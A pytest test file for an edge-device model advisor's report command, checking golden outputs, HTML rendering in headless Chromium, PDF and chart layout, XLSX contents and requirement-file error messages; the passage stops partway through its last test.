"""advisor report: goldens of the text formats, HTML in headless Chromium, PDF text and pages,
XLSX round trip, requirement-file errors, no-clobber writes, exit codes."""

from __future__ import annotations

import io
import json
import re
import shutil
import subprocess
import sys
from itertools import pairwise
from pathlib import Path

import pytest

from advisor.catalog import data_root
from advisor.cli import cli, main
from advisor.report.command import plan_outputs, report

if "report" not in cli.commands:
    cli.add_command(report)

ROOT = Path(__file__).resolve().parents[1]
KIOSK = ROOT / "examples" / "requirements-kiosk.toml"
GOLDEN = ROOT / "tests" / "golden" / "report"
CHROMIUM = next((p for p in ("/usr/bin/chromium", shutil.which("chromium"), shutil.which("chromium-browser"),
                             shutil.which("google-chrome")) if p and Path(p).exists()), None)


@pytest.fixture(autouse=True)
def _own_home(tmp_path_factory, monkeypatch):
    """No measured runs or calibrations from other tests: the goldens see the shipped data only."""
    monkeypatch.setenv("ADVISOR_HOME", str(tmp_path_factory.getbasetemp() / "report-home"))


def run(capsys, *args):
    code = main([str(a) for a in args])
    out = capsys.readouterr()
    return code, out.out, out.err


@pytest.fixture(scope="module")
def kiosk_json(tmp_path_factory):
    """The kiosk report's data, built once for the renderers' tests."""
    from advisor.catalog import load_catalog
    from advisor.report.model import build_report
    from advisor.report.requirements import load_requirements

    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("ADVISOR_HOME", str(tmp_path_factory.getbasetemp() / "report-home"))
        return build_report(load_requirements(KIOSK), load_catalog())


# --------------------------------------------------------------------------- goldens


def normalise(text: str, versions: dict) -> str:
    """Date and versions change without the report changing: replace them with placeholders."""
    for key in ("catalog_digest", "catalog", "tool"):
        text = text.replace(versions[key], f"<{key}>")
    text = re.sub(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", "<generated_at>", text)
    text = text.replace(f'"python": "{versions["python"]}"', '"python": "<python>"')
    return text.replace(f"Python {versions['python']}", "Python <python>")


@pytest.mark.parametrize("fmt, suffix", [("json", "json"), ("csv", "csv"), ("md", "md")])
def test_kiosk_golden(capsys, update_golden, fmt, suffix):
    code, out, err = run(capsys, "report", "--requirements", KIOSK, "--format", fmt)
    assert code == 0, err
    code, js, _ = run(capsys, "report", "--requirements", KIOSK, "--format", "json")
    meta = json.loads(js)
    got = normalise(out + "\n", meta["versions"])
    path = GOLDEN / f"kiosk.{suffix}"
    if update_golden or not path.exists():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(got, encoding="utf-8")
    assert got == path.read_text(encoding="utf-8"), f"{path} differs; rerun with --update-golden if the change is intended"


def test_kiosk_json_content(capsys):
    code, out, _ = run(capsys, "report", "--requirements", KIOSK, "--format", "json")
    assert code == 0
    d = json.loads(out)
    assert d["schema"] == "edge-model-advisor/report" and d["schema_version"] == 1
    assert d["requirements"]["fleet_size"] == 500 and d["requirements"]["rank_by"] == "fleet_cost"
    assert {r["device"] for r in d["comparison"]} == {"jetson-orin-nano-super-8gb", "raspberry-pi-5-8gb", "mini-pc-intel-n100-8gb"}
    assert {r["model"] for r in d["comparison"]} == {"llama-3.2-1b-instruct", "qwen2.5-1.5b-instruct", "qwen3-1.7b"}
    assert len(d["comparison"]) == 9
    for r in d["comparison"]:
        if r["meets"]:
            assert r["decode_tokens_per_s"] >= 8
            assert r["decode_low"] <= r["decode_tokens_per_s"] <= r["decode_high"]
            assert r["fleet_price_usd"] == pytest.approx(r["unit_price_usd"] * 500)
            assert r["memory_bytes"] + r["headroom_bytes"] == r["usable_bytes"]
    fleet = [r["fleet_price_usd"] for r in d["ranking"]]
    assert fleet == sorted(fleet)
    assert d["recommended"]["device"] == d["ranking"][0]["device"]
    assert next(r for r in d["comparison"] if r["pick"])["device"] == d["recommended"]["device"]
    assert d["summary"].startswith("Recommended: ")
    assert {c["device_class"] for c in d["cheapest_per_class"]} == {"jetson", "sbc", "mini-pc"}
    assert {w["variant"] for w in d["what_if"]} == {"raspberry-pi-5-16gb", "mini-pc-intel-n100-16gb"}
    assert all(e["price_basis"] for e in d["evidence"]["devices"])
    assert d["runs"] == []


def test_library_figures_match_the_report(kiosk_json, catalog):
    """The report adds no figures of its own: a row equals the library's evaluate/compare_devices."""
    from advisor.analysis import compare_devices

    row = next(r for r in kiosk_json.comparison if r["pick"] and r["device"] == "raspberry-pi-5-8gb")
    comp = compare_devices(row["model"], row["quant"], [catalog.device("raspberry-pi-5-8gb")],
                           kiosk_json_workload(kiosk_json), catalog)[0]
    assert row["decode_tokens_per_s"] == round(comp.estimate.speed.decode_tokens_per_s, 3)
    assert row["energy_wh_per_1000_responses"] == round(comp.energy_wh_per_1000_responses, 3)
    assert row["memory_bytes"] == comp.estimate.memory.total_bytes


def kiosk_json_workload(data):
    from advisor.records import Workload

    w = data.workload
    return Workload(w["context_tokens"], w["prompt_tokens"], w["output_tokens"], w["kv_cache_type"])


# --------------------------------------------------------------------------- HTML


def test_html_is_self_contained(kiosk_json):
    from plotly.offline import get_plotlyjs

    from advisor.report.render_html import plotly_js_gzip, render_html

    html = render_html(kiosk_json)
    bundle = plotly_js_gzip(get_plotlyjs())
    assert html.count(bundle) == 1  # plotly.js inlined once (compressed: the browser unpacks it)
    assert len(html.encode("utf-8")) < 2_100_000  # ~2 MB, not 4.8 MB
    page = html.replace(bundle, "")  # the bundle's own strings (e.g. its unused topojson URL) aside
    assert "<script src=" not in page and "cdn.plot.ly" not in page
    assert not re.search(r"""(src|href)=["']https?://""", page)
    assert kiosk_json.summary.split(";")[0].replace("&", "&amp;") in html


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")
def test_html_renders_charts_offline(kiosk_json, tmp_path):
    from advisor.report.render_html import render_html

    page = tmp_path / "kiosk.html"
    page.write_text(render_html(kiosk_json), encoding="utf-8")
    cmd = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
           "--disable-background-networking", "--disable-component-update", "--disable-sync",
           f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=10000", "--dump-dom", page.as_uri()]
    dom = subprocess.run(cmd, capture_output=True, text=True, timeout=180, check=False).stdout
    assert dom.count('class="main-svg"') >= 3, "plotly did not draw the charts"
    for key in ("pareto", "cost_speed", "memory"):
        assert re.search(rf'id="plot-{key}"[^>]*class="[^"]*js-plotly-plot', dom), key
    assert "Recommended: Raspberry Pi 5 (8 GB)" in dom
    assert "Comparison: devices × models" in dom
    memory = dom[dom.index('id="plot-memory"'):]
    swatches = re.findall(r'<path class="legendundefined"[^>]*style="([^"]*)"', memory)
    assert len(swatches) == 4 and all("stroke-width: 0px" in s for s in swatches), swatches  # no recommended outline


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")
@pytest.mark.parametrize("requirements", ["requirements-kiosk.toml", "requirements-android-app.toml"])
def test_html_tables_a_buyer_reads_first_fit_a_laptop_screen(requirements, tmp_path):
    """At 1280 px the ranking's last columns (tok/s per $, per W) were off screen, its headers kept on
    one line; a tier's 'slowest decode' and 'memory / budget' cells (a figure and a device's name) and
    the Evidence notes (long URLs) pushed their tables wider than the page. Only the comparison, 15
    columns, scrolls."""
    from advisor.catalog import load_catalog
    from advisor.report.model import build_report
    from advisor.report.render_html import render_html
    from advisor.report.requirements import load_requirements

    data = build_report(load_requirements(ROOT / "examples" / requirements), load_catalog())
    measure = ("<script>addEventListener('load', function () { setTimeout(function () {"
               " var out = []; document.querySelectorAll('.table-wrap').forEach(function (w) {"
               " out.push(w.closest('section').id + ':' + (w.scrollWidth - w.clientWidth)); });"
               " document.body.setAttribute('data-overflow', out.join(' ')); }, 300); });</script></body>")
    page = tmp_path / "r.html"
    page.write_text(render_html(data).replace("</body>", measure), encoding="utf-8")
    cmd = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
           "--disable-background-networking", "--disable-component-update", "--disable-sync", "--window-size=1280,900",
           f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=10000", "--dump-dom", page.as_uri()]
    dom = subprocess.run(cmd, capture_output=True, text=True, timeout=180, check=False).stdout
    found = re.search(r'data-overflow="([^"]*)"', dom)
    assert found, "the page did not load"
    overflow = [x.rsplit(":", 1) for x in found.group(1).split()]
    wide = [(section, px) for section, px in overflow if section != "comparison" and int(px) > 0]
    assert not wide, overflow


def test_html_memory_outline_is_not_in_the_legend(kiosk_json):
    """The recommended bar is outlined by a shape round it; the bars themselves have no edge (plotly
    draws a legend swatch like its series' first bar, which would give every swatch the outline)."""
    from advisor.report.charts import PICK_COLOR, plotly_figures

    fig = plotly_figures(kiosk_json)["memory"]
    bars = [t for t in fig.data if t.type == "bar"]
    assert len(bars) == 4 and all(t.marker.line.width == 0 for t in bars)
    labels = list(bars[0].y)
    pick = next(i for i, b in enumerate(kiosk_json.charts["memory"]["bars"]) if b["recommended"])
    assert labels[pick].startswith("★ ")
    [shape] = fig.layout.shapes
    assert shape.line.color == PICK_COLOR and shape.y0 < pick < shape.y1 and shape.x0 == 0
    assert shape.x1 == pytest.approx(sum(b.x[pick] for b in bars))


# --------------------------------------------------------------------------- PDF


@pytest.fixture(scope="module")
def kiosk_pdf(kiosk_json):
    from advisor.report.render_pdf import render_pdf

    return render_pdf(kiosk_json)


def test_pdf_contains_summary_and_table(kiosk_pdf, kiosk_json):
    pypdf = pytest.importorskip("pypdf")
    reader = pypdf.PdfReader(io.BytesIO(kiosk_pdf))
    text = "\n".join(p.extract_text() for p in reader.pages)
    flat = re.sub(r"\s+", " ", text)
    assert "Recommended: Raspberry Pi 5 (8 GB) running Qwen3 1.7B" in flat
    assert "Comparison: devices × models" in flat
    for r in kiosk_json.ranking:
        assert r["device"] in flat
    assert "$40,000" in flat and "decode tok/s" in flat
    assert "Evidence" in flat and "Assumptions" in flat
    assert reader.metadata.title == kiosk_json.title


def pdf_words(pdf: bytes) -> list[list[tuple[float, float, float, float, str]]]:
    """Each page's words with their boxes (points from the top left), as poppler's pdftotext sees them."""
    import html

    out = subprocess.run(["pdftotext", "-bbox", "-", "-"], input=pdf, capture_output=True, check=True, timeout=120).stdout
    pages = re.split(r"<page ", out.decode("utf-8"))[1:]
    word = r'<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)</word>'
    return [[(float(a), float(b), float(c), float(d), html.unescape(w)) for a, b, c, d, w in re.findall(word, page)]
            for page in pages]


def pdf_images(pdf: bytes) -> list[list[tuple[float, float, float, float]]]:
    """Each page's images (the charts) as boxes in points from the top left, from their placement matrices."""
    pypdf = pytest.importorskip("pypdf")
    pages = []
    for page in pypdf.PdfReader(io.BytesIO(pdf)).pages:
        height, boxes = float(page.mediabox.height), []

        def before(op, args, cm, tm, boxes=boxes, height=height):
            if op == b"Do":
                boxes.append((cm[4], height - cm[5] - cm[3], cm[4] + cm[0], height - cm[5]))

        page.extract_text(visitor_operand_before=before)
        pages.append(boxes)
    return pages


def pdf_layout_problems(pdf: bytes, data) -> list[str]:
    """Words printed over a chart (a caption under an image taller than the room left for it), and
    words of the tables broken across lines ("headroo" / "m": a column narrower than a word)."""
    from advisor.report.views import sections

    words = pdf_words(pdf)
    problems = []
    for no, (images, page) in enumerate(zip(pdf_images(pdf), words), 1):
        for x0, y0, x1, y1, w in page:
            for a0, b0, a1, b1 in images:
                if x0 < a1 - 0.5 and a0 + 0.5 < x1 and y0 < b1 - 0.5 and b0 + 0.5 < y1:
                    problems.append(f"page {no}: '{w}' over a chart")
    printed = {w for page in words for *_, w in page}
    for s in sections(data):
        for t in s.tables:
            cells = [*t.headers, *(c for row in t.rows for c in row)]
            problems += [f"{s.id}: '{w}' broken" for c in cells for w in c.split() if w not in printed]
    return problems


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="poppler-utils is not installed")
def test_pdf_layout_has_no_collisions(kiosk_pdf, kiosk_json):
    assert pdf_layout_problems(kiosk_pdf, kiosk_json) == []


def orphaned_headings(pdf: bytes, data) -> list[str]:
    """Section headings printed at the foot of a page whose first table starts on the next one."""
    pypdf = pytest.importorskip("pypdf")
    from advisor.report.views import sections

    pages = [re.sub(r"\s+", " ", p.extract_text()) for p in pypdf.PdfReader(io.BytesIO(pdf)).pages]
    problems = []
    for s in sections(data):
        if not s.tables or s.id == "summary":
            continue
        at = next((i for i, text in enumerate(pages) if s.title in text), None)
        head = " ".join(s.tables[0].headers[:2])
        if at is not None and head not in pages[at]:
            problems.append(f"page {at + 1}: '{s.title}' without its table (it starts on the next page)")
    return problems


def test_pdf_keeps_a_heading_with_its_table(kiosk_pdf, kiosk_json):
    """A heading and its introduction alone at the foot of a page read as an empty section."""
    assert orphaned_headings(kiosk_pdf, kiosk_json) == []


@pytest.mark.parametrize("headers, widths, rows, page", [
    (["headroom", "x"], [1, 9], [["1 GiB", "y"]], 100),  # a narrow share widens to its header word
    (["device", "why"], [1, 1], [["midrange-snapdragon-7-gen-3-8gb", "ok"]], 100),  # and to its cells' words
    (["a", "b"], [1, 3], [["1", "2"]], 100),  # nothing to widen: the shares
    (["device", "note"], [1, 1], [["x", "w" * 200]], 100),  # a cell wider than the page: the header words
])
def test_pdf_column_widths(headers, widths, rows, page):
    from fpdf import FPDF

    from advisor.report.render_pdf import CELL_PAD_MM, FONT, TABLE_PT, _fonts_dir, column_widths
    from advisor.report.views import Table

    pdf = FPDF()
    pdf.add_font(FONT, "", f"{_fonts_dir()}/DejaVuSans.ttf")
    pdf.add_font(FONT, "B", f"{_fonts_dir()}/DejaVuSans-Bold.ttf")
    got = column_widths(pdf, Table(headers=headers, rows=rows, widths=widths), TABLE_PT, page)
    assert sum(got) == pytest.approx(page)
    pdf.set_font(FONT, "B", TABLE_PT)
    for h, w in zip(headers, got):
        assert w >= pdf.get_string_width(h) + 2 * CELL_PAD_MM
    if len(rows[0][1]) < 100:
        pdf.set_font(FONT, "", TABLE_PT)
        for c, w in zip(rows[0], got):
            assert w >= pdf.get_string_width(c) + 2 * CELL_PAD_MM
    if headers == ["a", "b"]:
        assert got == pytest.approx([25, 75])


def test_pdf_figures_keep_their_units():
    """A figure wraps before its band or after a slash, never between a number and its unit: a
    crowded comparison (16 columns with the sustained decode) printed '809' above 'ms' and '5.36'
    above 'GiB'."""
    from fpdf import FPDF

    from advisor.report.render_pdf import CELL_PAD_MM, FONT, TABLE_PT, UNIT_SPACE, _fonts_dir, column_widths
    from advisor.report.views import Table

    pdf = FPDF()
    pdf.add_font(FONT, "", f"{_fonts_dir()}/DejaVuSans.ttf")
    pdf.add_font(FONT, "B", f"{_fonts_dir()}/DejaVuSans-Bold.ttf")
    table = Table(headers=["device", "TTFT", "memory / usable", "decode"], numeric=[False, True, True, True],
                  widths=[8, 1, 1, 1], rows=[["word " * 40, "809 ms", "2.15 GiB / 5.36 GiB", "48.4 (39.0–60.2)"]])
    got = column_widths(pdf, table, TABLE_PT, 70)
    pdf.set_font(FONT, "", TABLE_PT)
    for text, w in zip(["809 ms", "2.15 GiB /", "(39.0–60.2)"], got[1:]):
        assert w >= pdf.get_string_width(text) + 2 * CELL_PAD_MM, text
    assert got[3] < pdf.get_string_width("48.4 (39.0–60.2)") + 2 * CELL_PAD_MM  # the band may go below
    assert UNIT_SPACE.sub("_", "2.15 GiB / 5.36 GiB; 809 ms; 48.4 (39.0–60.2); $1,300") == \
        "2.15_GiB / 5.36_GiB; 809_ms; 48.4 (39.0–60.2); $1,300"


# --------------------------------------------------------------------------- charts (PDF)


def chart_overlaps(fig) -> list[str]:
    """What collides in a matplotlib chart: point labels with one another, with a marker, an error
    bar or the frontier line, or outside the plot area; the legend over the plot area or the axis
    titles."""
    from matplotlib.collections import LineCollection, PathCollection
    from matplotlib.text import Annotation

    fig.draw_without_rendering()
    renderer = fig.canvas.get_renderer()
    ax = fig.axes[0]
    area = ax.get_window_extent(renderer)
    px = fig.dpi / 72
    labels = [(a.get_text(), a.get_window_extent(renderer)) for a in ax.texts if isinstance(a, Annotation)]
    problems = [f"'{t}' outside the plot" for t, b in labels
                if not (area.x0 <= b.x0 and b.x1 <= area.x1 and area.y0 <= b.y0 and b.y1 <= area.y1)]
    problems += [f"'{t}' over '{u}'" for i, (t, b) in enumerate(labels) for u, c in labels[i + 1:] if b.overlaps(c)]
    marks = []  # (centre in pixels, radius in pixels)
    for col in ax.collections:
        if isinstance(col, PathCollection):
            marks += [(xy, (s ** 0.5) * px / 2) for xy, s in zip(ax.transData.transform(col.get_offsets()), col.get_sizes())]
    lines = [ax.transData.transform(seg) for col in ax.collections if isinstance(col, LineCollection) for seg in col.get_segments()]
    for line in ax.lines:
        if line.get_marker() not in (None, "None", ""):
            marks += [(xy, line.get_markersize() * px / 2) for xy in ax.transData.transform(line.get_xydata())]
        elif line.get_label() == "Pareto frontier":
            lines.append(ax.transData.transform(line.get_xydata()))
    for (x0, y0), (x1, y1) in ((a, b) for seg in lines for a, b in pairwise(seg)):
        n = max(1, int(abs(x1 - x0) + abs(y1 - y0)) // 2)
        marks += [((x0 + (x1 - x0) * k / n, y0 + (y1 - y0) * k / n), 0.0) for k in range(n + 1)]
    for t, b in labels:
        if any(b.x0 < x + r - 0.5 and x - r + 0.5 < b.x1 and b.y0 < y + r - 0.5 and y - r + 0.5 < b.y1 for (x, y), r in marks):
            problems.append(f"'{t}' over a marker or line")
    for legend in [*fig.legends, *([ax.get_legend()] if ax.get_legend() else [])]:
        box = legend.get_window_extent(renderer)
        for what, other in [("plot", area), ("x-axis title", ax.xaxis.label.get_window_extent(renderer)),
                            ("y-axis title", ax.yaxis.label.get_window_extent(renderer))]:
            if box.overlaps(other):
                problems.append(f"legend over the {what}")
    return problems


@pytest.mark.parametrize("key", ["pareto", "cost_speed", "memory"])
def test_chart_labels_and_legend_do_not_collide(kiosk_json, key):
    from advisor.report.charts import mpl_figures

    assert chart_overlaps(mpl_figures(kiosk_json)[key]) == []


def test_memory_chart_outline_is_not_in_the_legend(kiosk_json):
    """matplotlib draws a legend swatch like its series' first bar: the recommended bar's outline is
    a bar of its own, out of the legend."""
    from matplotlib.colors import to_rgba

    from advisor.report.charts import PICK_COLOR, mpl_figures

    ax = mpl_figures(kiosk_json)["memory"].axes[0]
    swatches = [h for h in ax.get_legend().legend_handles if hasattr(h, "get_facecolor") and h.get_label() != "usable memory"]
    assert len(swatches) == 4 and all(h.get_linewidth() == 0 or h.get_edgecolor()[3] == 0 for h in swatches)
    outlines = [b for b in ax.patches if not b.get_fill()]
    assert len(outlines) == 1 and outlines[0].get_edgecolor() == to_rgba(PICK_COLOR)


@pytest.mark.catalog_data
def test_memory_chart_bars_reach_each_total(tmp_path, monkeypatch):
    """Each memory bar is its row's whole total: ONNX Runtime GenAI's fp32 build holds a packed copy
    of its tied matrix and peaks at load (catalog ``load_copy``), parts beyond weights, KV cache,
    buffers and overhead; its bars were short by them. They stack as one more part, named in the
    legend only where a bar has it (the llama.cpp-only kiosk chart keeps its four)."""
    from advisor.catalog import load_catalog
    from advisor.report.charts import mpl_figures
    from advisor.report.model import build_report
    from advisor.report.requirements import load_requirements

    monkeypatch.setenv("ADVISOR_HOME", str(tmp_path / "home"))
    req = tmp_path / "req.toml"
    req.write_text('title = "x"\nmodels = ["qwen2.5-0.5b-instruct"]\ndevices = ["laptop-core-ultra-7-258v-32gb"]\n'
                   'runtime = ["ort-genai"]\nmin_tps = 1\n')
    data = build_report(load_requirements(req), load_catalog())
    bars = data.charts["memory"]["bars"]
    assert bars and all(b["other_bytes"] > 0 for b in bars)
    totals = {(r["device"], r["model"], r["quant"]): r["memory_bytes"] for r in data.comparison}
    for b in bars:
        parts = b["weights_bytes"] + b["kv_cache_bytes"] + b["compute_buffer_bytes"] + b["overhead_bytes"] + b["other_bytes"]
        assert parts == totals[(b["device"], b["model"], b["quant"])]
    ax = mpl_figures(data)["memory"].axes[0]
    assert "recurrent state, packed copy, load peak" in [t.get_text() for t in ax.get_legend().get_texts()]


@pytest.mark.parametrize("step_usd, numbered, unlabelled", [
    (10, 9, 0),  # names collide: nine become numbers, spelt out in the legend
    (1, 0, 8),  # error bars a pixel apart: no room even for a number; the legend counts them
])
def test_crowded_chart_keys_its_labels(kiosk_json, step_usd, numbered, unlabelled):
    """Ten devices at nearly one price and speed: no label collides, and each device is named on the
    chart, in the legend's key, or counted there as not labelled."""
    from dataclasses import replace

    from advisor.report.charts import mpl_figures

    points = [{"device": f"device-with-a-long-name-{i}", "device_class": "sbc", "model": "m", "quant": "Q4_K_M",
               "unit_price_usd": 100.0 + step_usd * i, "decode_tokens_per_s": 10.0 + 0.1 * i, "decode_low": 8.0,
               "decode_high": 12.0, "meets": True, "recommended": i == 0} for i in range(10)]
    data = replace(kiosk_json, charts={**kiosk_json.charts, "cost_speed": {"points": points, "min_tps": 8}})
    fig = mpl_figures(data)["cost_speed"]
    assert chart_overlaps(fig) == []
    on_chart = [t.get_text() for t in fig.axes[0].texts]
    legend = [t.get_text() for t in fig.legends[0].get_texts()]
    assert sorted(t for t in on_chart if t.isdigit()) == sorted(str(n) for n in range(1, numbered + 1))
    assert sum(p["device"] in legend for p in points) == numbered
    assert (f"{unlabelled} more points not labelled (see the tables)" in legend) == bool(unlabelled)
    assert sum(p["device"] in on_chart + legend for p in points) + unlabelled == len(points)


def _html_label_boxes(points, annotations):
    """The boxes of the chart's labels in charts.html_labels' geometry (its narrowest layout)."""
    from advisor.report.charts import HTML_CHAR_PX, HTML_LINE_PX, HTML_PLOT_PX

    lo, hi = min(p["unit_price_usd"] for p in points), max(p["unit_price_usd"] for p in points)
    pad = max(20.0, (hi - lo) * 0.15)
    x0, x1 = max(0.0, lo - pad), hi + pad
    top = max(p["decode_high"] for p in points) * 1.12
    boxes = []
    for a in annotations:
        cx = (a.x - x0) / (x1 - x0) * HTML_PLOT_PX[0] + a.ax
        cy = HTML_PLOT_PX[1] - a.y / top * HTML_PLOT_PX[1] + a.ay
        half = len(a.text) * HTML_CHAR_PX / 2
        boxes.append((cx - half, cy - HTML_LINE_PX / 2, cx + half, cy + HTML_LINE_PX / 2))
    return boxes


@pytest.mark.parametrize("step_usd", [None, 10])
def test_html_cost_chart_names_do_not_run_into_each_other(kiosk_json, step_usd):
    """The HTML chart's device names (plotly annotations, charts.html_labels): in its narrowest layout
    no two overlap; a name with no readable place is a number, spelt out in the legend. Before, every
    name sat above its point ('textposition'), and the kiosk report's Orin Nano Super and Orin NX 8GB
    ran into one string."""
    from dataclasses import replace

    from advisor.report.charts import plotly_figures

    data = kiosk_json
    if step_usd is not None:  # ten devices at nearly one price and speed
        points = [{"device": f"device-with-a-long-name-{i}", "device_class": "sbc", "model": "m", "quant": "Q4_K_M",
                   "unit_price_usd": 100.0 + step_usd * i, "decode_tokens_per_s": 10.0 + 0.1 * i, "decode_low": 8.0,
                   "decode_high": 12.0, "meets": True, "recommended": i == 0} for i in range(10)]
        data = replace(kiosk_json, charts={**kiosk_json.charts, "cost_speed": {"points": points, "min_tps": 8}})
    points = data.charts["cost_speed"]["points"]
    fig = plotly_figures(data)["cost_speed"]
    labels = [a for a in fig.layout.annotations if a.text != "required"]
    texts = [a.text for a in labels]
    legend = [t.name for t in fig.data if t.name]
    assert all(t.mode == "markers" for t in fig.data if t.x and t.x[0] is not None)  # no text drawn by plotly itself
    numbered = sum(t.isdigit() for t in texts)
    assert (numbered > 0) == (step_usd is not None)  # the kiosk's seven devices all get their names
    unlabelled = next((int(n.split()[0]) for n in legend if n.endswith("more points not labelled (see the tables)")), 0)
    assert sum(p["device"] in texts for p in points) + numbered + unlabelled == len(points)
    assert sorted(t for t in texts if t.isdigit()) == sorted(str(n) for n in range(1, numbered + 1))
    assert sum(any(name.endswith(f": {p['device']}") for name in legend) for p in points) == numbered
    # each label's box in the placement's geometry (the narrowest layout): none overlaps another
    boxes = _html_label_boxes(points, labels)
    clashes = [(i, j) for i, a in enumerate(boxes) for j, b in enumerate(boxes[:i]) if a[0] < b[2] and b[0] < a[2] and a[1] < b[3] and b[1] < a[3]]
    assert clashes == []


@pytest.mark.skipif(shutil.which("pdftoppm") is None, reason="poppler-utils is not installed")
def test_pdf_renders_to_png(kiosk_pdf, tmp_path):
    pdf = tmp_path / "kiosk.pdf"
    pdf.write_bytes(kiosk_pdf)
    subprocess.run(["pdftoppm", "-r", "40", "-png", str(pdf), str(tmp_path / "page")], check=True, timeout=120)
    pages = sorted(tmp_path.glob("page-*.png"))
    assert len(pages) >= 3
    assert all(p.stat().st_size > 5_000 for p in pages)


# --------------------------------------------------------------------------- XLSX


def test_xlsx_has_the_same_numbers(kiosk_json):
    openpyxl = pytest.importorskip("openpyxl")
    from advisor.report.model import COMPARISON_COLUMNS
    from advisor.report.render_xlsx import render_xlsx

    wb = openpyxl.load_workbook(io.BytesIO(render_xlsx(kiosk_json)))
    assert {"Summary", "Ranking", "Comparison", "Rejected", "Evidence devices", "Assumptions"} <= set(wb.sheetnames)
    ws = wb["Comparison"]
    rows = list(ws.iter_rows(values_only=True))
    assert list(rows[0]) == [h for _, h in COMPARISON_COLUMNS]
    assert len(rows) - 1 == len(kiosk_json.comparison)
    for got, want in zip(rows[1:], kiosk_json.comparison):
        for (key, _), value in zip(COMPARISON_COLUMNS, got):
            expected = want[key] / 1024**3 if key.endswith("_bytes") and want[key] is not None else want[key]
            assert value == pytest.approx(expected) if isinstance(expected, float) else value == expected, key  # sizes in GiB
    ranking = list(wb["Ranking"].iter_rows(values_only=True))
    assert [r[1] for r in ranking[1:]] == [r["device"] for r in kiosk_json.ranking]
    summary = dict(r for r in wb["Summary"].iter_rows(values_only=True))
    assert summary["summary"] == kiosk_json.summary


def test_xlsx_headers_read_as_in_the_other_formats(kiosk_json):
    """A key has one label on every sheet: "TTFT (s)" as on Ranking and Comparison, not "ttft (s)"."""
    openpyxl = pytest.importorskip("openpyxl")
    from advisor.report.render_xlsx import render_xlsx

    wb = openpyxl.load_workbook(io.BytesIO(render_xlsx(kiosk_json)))
    assert [c.value for c in wb["Cheapest per class"][1]] == [
        "class", "device", "device name", "model", "model name", "quant", "unit price (USD)", "fleet price (USD)", "decode (tok/s)",
        "TTFT (s)", "energy (Wh / 1,000 responses)"]
    assert "What to ship per RAM tier" not in wb.sheetnames  # no target, no tiers (as in the documents)


# --------------------------------------------------------------------------- bad input


BAD_FILES = [
    ("typo.toml", 'models = ["qwen3-1.7b"]\nmin_tsp = 8\n', "unknown field 'min_tsp'; did you mean 'min_tps'?"),
    ("type.toml", 'models = ["qwen3-1.7b"]\nfleet_size = "many"\n',
     "field 'fleet_size': Input should be a valid integer, unable to parse string as an integer"),
    ("neg.toml", 'models = ["qwen3-1.7b"]\nmin_tps = -1\n', "field 'min_tps': Input should be greater than 0"),
    ("model.toml", 'models = ["qwen3-1.7"]\n',
     "field 'models': unknown model 'qwen3-1.7'; did you mean qwen3-1.7b, qwen3-0.6b, qwen3-4b? list them with 'advisor models'"),
    ("device.toml", 'models = ["qwen3-1.7b"]\ndevices = ["raspbery-pi-5-8gb"]\n',
     ("field 'devices': unknown device 'raspbery-pi-5-8gb'; did you mean raspberry-pi-5-8gb, raspberry-pi-4-8gb, "
     "raspberry-pi-5-2gb? list them with 'advisor devices'")),
    ("class.toml", 'models = ["qwen3-1.7b"]\ndevice_classes = ["toaster"]\n',
     "field 'device_classes': Input should be 'phone', 'tablet', 'laptop', 'desktop', 'desktop-gpu', 'sbc', 'jetson' or 'mini-pc'"),
    ("rank.toml", 'models = ["qwen3-1.7b"]\nrank_by = "price"\n',
     "field 'rank_by': Input should be 'cost', 'fleet_cost', 'energy' or 'speed'"),
    ("ttft.toml", 'models = ["qwen3-1.7b"]\nmax_ttft_s = "soon"\n',
     "field 'max_ttft_s': max_ttft_s 'soon' is not a duration; write it like 2, 2s or 500ms"),
    ("nomodel.toml", 'devices = ["raspberry-pi-5-8gb"]\n',
     "field 'models': name the candidate models (models = [...]) or set a quality_floor"),
    ("ctx.toml", 'models = ["qwen3-1.7b"]\ncontext_tokens = 512\n',
     ("field 'context_tokens': prompt_tokens (512) + output_tokens (256) exceed the context of 512; "
     "raise context_tokens or shorten them")),
    ("syntax.toml", 'models = ["qwen3-1.7b"\n', "not valid TOML (Unclosed array (at end of document)); fix the syntax at that line"),
    ("list.yaml", "- qwen3-1.7b\n", "expected a table of requirements (key = value lines)"),
    # PyYAML keeps the last of a repeated key silently (the report used fleet_size 2); TOML refuses it
    ("dup.yaml", "models: [qwen3-1.7b]\ndevices: [raspberry-pi-5-8gb]\nfleet_size: 1\nfleet_size: 2\n",
     "key 'fleet_size' appears twice (lines 3 and 4); keep one"),
    ("req.txt", "models = []\n", "a requirements file must be .toml, .yaml or .yml"),
]


@pytest.mark.parametrize("name, content, message", BAD_FILES, ids=[b[0] for b in BAD_FILES])
def test_bad_requirement_files(capsys, tmp_path, name, content, message):
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")
    code, out, err = run(capsys, "report", "--requirements", path, "--format", "json")
    assert code == 1
    assert out == ""
    assert err == f"Error: {path}: {message}\n"


def test_missing_requirements_file(capsys, tmp_path):
    code, _, err = run(capsys, "report", "--requirements", tmp_path / "nope.toml")
    assert (code, err) == (1, f"Error: {tmp_path / 'nope.toml'}: file not found; check the path\n")


def test_yaml_requirements(capsys, tmp_path):
    pytest.importorskip("yaml")
    path = tmp_path / "req.yaml"
    path.write_text("models: [qwen3-1.7b]\ndevices: raspberry-pi-5-8gb\nfleet_size: 10\nmin_tps: 5\n", encoding="utf-8")
    code, out, err = run(capsys, "report", "--requirements", path, "--format", "json")
    assert code == 0, err
    d = json.loads(out)
    assert d["requirements"]["devices"] == ["raspberry-pi-5-8gb"] and d["recommended"]["fleet_price_usd"] == 800


def test_yaml_without_pyyaml_names_the_fix(capsys, tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "yaml", None)
